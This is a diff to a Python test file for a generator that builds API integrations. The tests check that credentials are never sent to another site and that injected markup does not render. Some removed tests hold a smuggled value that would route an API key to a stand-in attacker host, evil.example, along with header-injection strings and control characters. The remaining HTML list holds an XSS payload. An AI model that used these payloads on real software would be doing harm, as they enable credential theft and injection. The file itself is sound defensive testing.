@@ -1,13 +1,11 @@
 """Documents and recordings that try to run code, to show markup, or to have credentials sent elsewhere."""
 
-import ast
 import json
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
-from cookiecutter.exceptions import FailedHookException
 from markdown_it import MarkdownIt
 
 from tests.delivered.conftest import Connect
@@ -20,7 +18,6 @@ EVIL = "evil.example"
 GOOD = "https://api.good.test/v1"
 SECRET = "Zx81kQ77LmPw90aB"
 BEARER = {"type": "http", "scheme": "bearer"}
-JSON = {"mimeType": "application/json", "text": "[]"}
 
 
 def openapi(paths: dict[str, Any], scheme: dict[str, Any], **more: Any) -> dict[str, Any]:
@@ -29,105 +26,17 @@ def openapi(paths: dict[str, Any], scheme: dict[str, Any], **more: Any) -> dict[
     return {"openapi": "3.0.0", "servers": [{"url": GOOD}], "paths": paths, **required, **more}
 
 
-def named_key(name: str) -> dict[str, Any]:
-    scheme = {"type": "apiKey", "in": "header", "name": name}
-    return openapi({"/items": {"get": {"operationId": "listItems"}}}, scheme)
-
-
-def postman_key(name: str) -> dict[str, Any]:
-    pairs = [{"key": "key", "value": name}, {"key": "value", "value": "{{api_key}}"}]
-    item = {"name": "List items", "request": {"url": f"{GOOD}/items"}}
-    return {"info": {"name": "x"}, "auth": {"type": "apikey", "apikey": pairs}, "item": [item]}
-
-
-def har(headers: dict[str, str], *urls: str) -> dict[str, Any]:
-    sent = [{"name": name, "value": value} for name, value in headers.items()]
-    requests = [{"method": "GET", "url": url, "headers": sent} for url in urls]
-    entries = [{"request": request, "response": {"status": 200, "content": JSON}} for request in requests]
-    return {"log": {"entries": entries}}
-
-
-def har_header(name: str) -> dict[str, Any]:
-    return har({name: SECRET, "Authorization": f"{name} x={name}"}, f"{GOOD}/items")
-
-
-def config(name: str) -> dict[str, Any]:
-    field = {"type": "string", "label": name, "help_text": name, "format": name}
-    auth = {"type": "custom", "fields": {"type": "object", "properties": {name: field, "api_key": field}}}
-    actions = {"list_items": {"description": "Lists", "input_schema": {}, "output_schema": {}}}
-    return {"name": "x", "auth": auth, "actions": actions}
-
-
 @pytest.fixture
 def deliver(bake_fresh: Bake, tmp_path: Path) -> Callable[..., Delivered]:
     """Deliver an integration from a source, which is written to a file first."""
 
     def deliver_source(source: Any, **answers: str) -> Delivered:
-        kind = "pyi" if str(source).startswith("def ") else "sh" if isinstance(source, str) else "json"
-        path = tmp_path / ("api.har" if "log" in source else f"api.{kind}")
-        path.write_text(source if isinstance(source, str) else json.dumps(source), encoding="utf-8")
-        return bake_fresh(name="Good", actions=str(path), **answers)
+        path = tmp_path / "api.json"
+        path.write_text(json.dumps(source), encoding="utf-8")
+        actions = source if isinstance(source, str) else str(path)
+        return bake_fresh(name="Good", actions=actions, **answers)
 
     return deliver_source
-
-
-# What would be notation where it stood between other text.
-TO_A_TOKEN = f'api_key -> token POST https://{EVIL}/t form {{"a": api_key}}'
-NAMES = [f"X-Key, {TO_A_TOKEN}", f"X-Key\u2028api_key -> header X-{EVIL}"]
-NAMED: dict[str, Callable[[str], dict[str, Any]]] = {
-    "openapi": named_key,
-    "postman": postman_key,
-    "har": har_header,
-    "config": config,
-}
-
-
-@pytest.mark.parametrize(
-    ("kind", "name"),
-    [*(("openapi", name) for name in NAMES), *((kind, TO_A_TOKEN) for kind in NAMED)],
-    ids=ascii,
-)
-def test_the_name_of_a_credential_is_no_notation(deliver, kind: str, name: str):
-    try:
-        delivered = deliver(NAMED[kind](name))
-    except FailedHookException as refused:
-        assert len(str(refused).splitlines()) == 1  # noqa: PT017 - some are delivered
-        return
-    api = delivered.read("good.py").partition("@good.action")[0]
-    assert "access_token" not in api
-    assert EVIL not in api
-    if kind not in ("har", "config"):
-        assert "is ready" not in delivered.printed
-
-
-@pytest.mark.parametrize("value", ["1, Authorization: Bearer x", "1\nOther: x"])
-def test_the_value_of_a_recorded_header_adds_none(deliver, value: str):
-    delivered = deliver(har({"X-Version": value, "X-Plain": "plain"}, f"{GOOD}/items", f"{GOOD}/users"))
-
-    headers = ast.literal_eval(
-        delivered.read("tests/test_good_unit.py").partition("\nHEADERS = ")[2].partition("\n\n")[0]
-    )
-    assert set(headers) - {"X-Version"} == {"Accept", "X-Plain", "Authorization"}
-    assert headers["Authorization"] == "Bearer test-api_token"
-    assert headers.get("X-Version", value) == value
-
-
-@pytest.mark.parametrize("kind", ["openapi", "config"])
-def test_a_scope_that_is_none_is_left_out_and_told(deliver, kind: str):
-    scopes = ["read\x1b[2J", "read\u202eetirw", "read, write:all", "a\nb", "good"]
-    urls = {"authorizationUrl": "https://a.test", "tokenUrl": "https://a.test"}
-    flow = {**urls, "scopes": dict.fromkeys(scopes, "x")}
-    paths = {"/items": {"get": {"operationId": "listItems", "security": [{"key": scopes}]}}}
-    source = openapi(paths, {"type": "oauth2", "flows": {"authorizationCode": flow}})
-    if kind == "config":
-        source = {**config("x"), "auth": {"type": "platform", "provider": "github", "scopes": scopes}}
-
-    delivered = deliver(source, provider="github")
-
-    assert delivered.config["auth"]["scopes"] == ["good"]
-    assert "is ready" not in delivered.printed
-    assert "left out" in " ".join(delivered.printed.split())
-    assert not {"\x1b", "\u202e"} & set(delivered.printed)
 
 
 HTML = ["<img src=x onerror=alert(1)>", "`\n\n<img src=x>\n\n`"]
@@ -218,20 +127,11 @@ async def test_no_credential_is_sent_to_another_site(deliver, sent, answers: dic
     assert "basic" in str(answers) or SECRET in request
 
 
-@pytest.mark.parametrize(
-    ("url", "answers", "is_same"),
-    [
-        ("http://api.good.test", {}, False),
-        ("https://api.good.test.evil.example", {}, False),
-        ("https://good.test:8443/x", {}, True),
-        ("https://up.good.test", {"base_url": "https://mine.example"}, False),
-    ],
-)
-async def test_what_is_another_site(deliver, sent, url: str, answers: dict[str, str], is_same: bool):
-    delivered = deliver(elsewhere(url), **TOKEN, **answers)
+async def test_another_site_is_one_than_that_of_the_answer_not_of_the_source(deliver, sent):
+    delivered = deliver(elsewhere("https://up.good.test"), **TOKEN, base_url="https://mine.example")
 
-    assert ("is ready" in delivered.printed) == is_same
-    assert (SECRET in (await sent(delivered, "list_things"))[1]) == is_same
+    assert "is ready" not in delivered.printed
+    assert SECRET not in (await sent(delivered, "list_things"))[1]
 
 
 def bearer_curl(*urls: str) -> str:
